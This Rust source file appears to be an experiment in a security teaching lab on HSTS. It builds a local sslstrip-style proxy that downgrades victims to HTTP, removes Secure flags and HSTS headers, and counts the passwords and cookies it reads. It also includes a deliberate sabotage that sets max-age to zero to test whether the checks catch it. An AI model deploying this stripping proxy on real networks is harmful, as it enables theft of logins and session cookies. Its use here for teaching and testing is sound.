//! Who protects the first request?

use std::{
    net::SocketAddr,
    sync::{Arc, Mutex, PoisonError},
};

use lab::{Experiment, Lab, Sabotage};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
    task::JoinHandle,
};
use tokio_rustls::rustls::ClientConfig;
use url::Url;

use super::{
    browser::Browser,
    fixture::{Fixture, HOST},
};
use crate::cases::client::{BOTH, connect};

/// What can be chosen.
#[derive(clap::Args, Clone, Copy, Debug)]
pub struct Params {
    /// Victims of each kind
    #[arg(long, default_value_t = 20, value_parser = clap::value_parser!(u32).range(1..=500))]
    pub victims: u32,
    /// How long browsers are to stay with HTTPS, in seconds
    #[arg(long, default_value_t = 300, value_parser = clap::value_parser!(u32).range(1..=63_072_000))]
    pub hsts_seconds: u32,
}

/// The experiment.
pub fn experiment() -> Experiment {
    Experiment::new(
        "first-request",
        "A redirect alone leaves the first request open: a proxy that strips TLS keeps the victim on HTTP and reads the \
         cookie. A client that has seen HSTS never sends a plain byte again, until it expires",
        &["--victims", "3"],
        run,
    )
    .sabotage(Sabotage {
        file: "src/redirect.rs",
        replace: r#"    let text = format!("max-age={seconds}; includeSubDomains");"#,
        with: "    // What one sets to be able to go back.\n    let text = format!(\"max-age={}; includeSubDomains\", seconds.min(0));",
        check: "plain requests of those who had been here before",
    })
}

async fn run(params: Params, lab: Lab) -> anyhow::Result<()> {
    let fixture = Fixture::start(&["--hsts-seconds", &params.hsts_seconds.to_string()]).await?;
    let tls = fixture.shared_client(BOTH)?;
    let thief = Stripper::before(fixture.https, Arc::clone(&tls)).await?;
    let honest = || Browser::new(fixture.plain, fixture.https, Arc::clone(&tls));
    let typed = format!("http://{HOST}/");
    let (mut before, mut later, mut expired, mut below, mut preloaded) = (0, 0, 0, 0, 0);
    for n in 0..params.victims {
        lab.progress(n.into(), params.victims.into(), "victims");
        // Never here before: the thief answers.
        let mut victim = honest();
        victim.port_80 = thief.address;
        victim.log_in(&typed).await?;
        // Was here before, through an honest network.
        let mut known = honest();
        known.open(&typed).await?;
        let sent = known.plain_requests;
        before += sent;
        known.port_80 = thief.address;
        known.log_in(&typed).await?;
        later += known.plain_requests - sent;
        // A name below: what would be sent, and where?
        let mut url = Url::parse(&format!("http://shop.{HOST}/"))?;
        known.upgrade(&mut url)?;
        below += u32::from(url.scheme() == "http");
        // And a long time later.
        known.now += u64::from(params.hsts_seconds) + 1;
        let sent = known.plain_requests;
        known.open(&typed).await?;
        expired += known.plain_requests - sent;
        // The list that browsers come with.
        let mut new = honest();
        new.port_80 = thief.address;
        new.hsts.insert(HOST.to_owned(), (u64::MAX, true));
        new.log_in(&typed).await?;
        preloaded += new.plain_requests;
    }
    let victims = params.victims;
    let read = thief.read();
    lab.check_eq(
        "passwords that the thief reads from those who had never been here",
        victims,
        read.passwords,
    );
    lab.check_eq("cookies that the thief reads from them", victims, read.cookies);
    lab.check_eq("plain requests of honest first visits, one each", victims, before);
    lab.check_eq("plain requests of those who had been here before", 0, later);
    lab.check_eq("plain requests of theirs to a name below", 0, below);
    lab.check_eq("plain requests of theirs after HSTS has expired, one each", victims, expired);
    lab.check_eq("plain requests of browsers that have the name on their list", 0, preloaded);
    lab.text(
        "includeSubDomains and an entry in the browsers' preload list close what is left: then not even the first request \
         is plain. The list asks for a max-age of a year, includeSubDomains, and preload in the header.",
    );
    Ok(())
}

/// What the thief has read.
#[derive(Clone, Copy, Debug, Default)]
struct Read {
    passwords: u32,
    cookies: u32,
}

/// Speaks HTTP to the victim and HTTPS to the server, as `sslstrip` did in 2009.
struct Stripper {
    address: SocketAddr,
    read: Arc<Mutex<Read>>,
    serving: JoinHandle<()>,
}

impl Drop for Stripper {
    fn drop(&mut self) {
        self.serving.abort();
    }
}

impl Stripper {
    async fn before(server: SocketAddr, tls: Arc<ClientConfig>) -> anyhow::Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0").await?;
        let address = listener.local_addr()?;
        let read = Arc::<Mutex<Read>>::default();
        let notes = Arc::clone(&read);
        // One victim after another, and each with one connection for each request.
        let serving = tokio::spawn(async move {
            while let Ok((victim, _)) = listener.accept().await {
                let _ = Self::strip(victim, server, &tls, &notes).await;
            }
        });
        Ok(Self { address, read, serving })
    }

    async fn strip(
        mut victim: TcpStream,
        server: SocketAddr,
        tls: &Arc<ClientConfig>,
        notes: &Mutex<Read>,
    ) -> std::io::Result<()> {
        let mut request = vec![0; 16 * 1_024];
        let length = victim.read(&mut request).await?;
        let heard = String::from_utf8_lossy(&request[..length]).into_owned();
        let mut real = connect(tls, server, HOST).await?;
        let request = heard.replacen("\r\n", "\r\nconnection: close\r\n", 1);
        real.write_all(request.as_bytes()).await?;
        real.flush().await?;
        let mut answer = Vec::new();
        real.read_to_end(&mut answer).await?;
        // All that speaks of HTTPS is taken out.
        let answer = String::from_utf8_lossy(&answer).replace("https://", "http://");
        {
            let mut read = notes.lock().unwrap_or_else(PoisonError::into_inner);
            read.passwords += u32::from(heard.contains("lovelace"));
            read.cookies += u32::from(answer.contains("set-cookie: "));
        }
        let answer =
            answer.replace("; Secure", "").replace("strict-transport-security", "x-nothing");
        victim.write_all(answer.as_bytes()).await
    }

    fn read(&self) -> Read {
        *self.read.lock().unwrap_or_else(PoisonError::into_inner)
    }
}
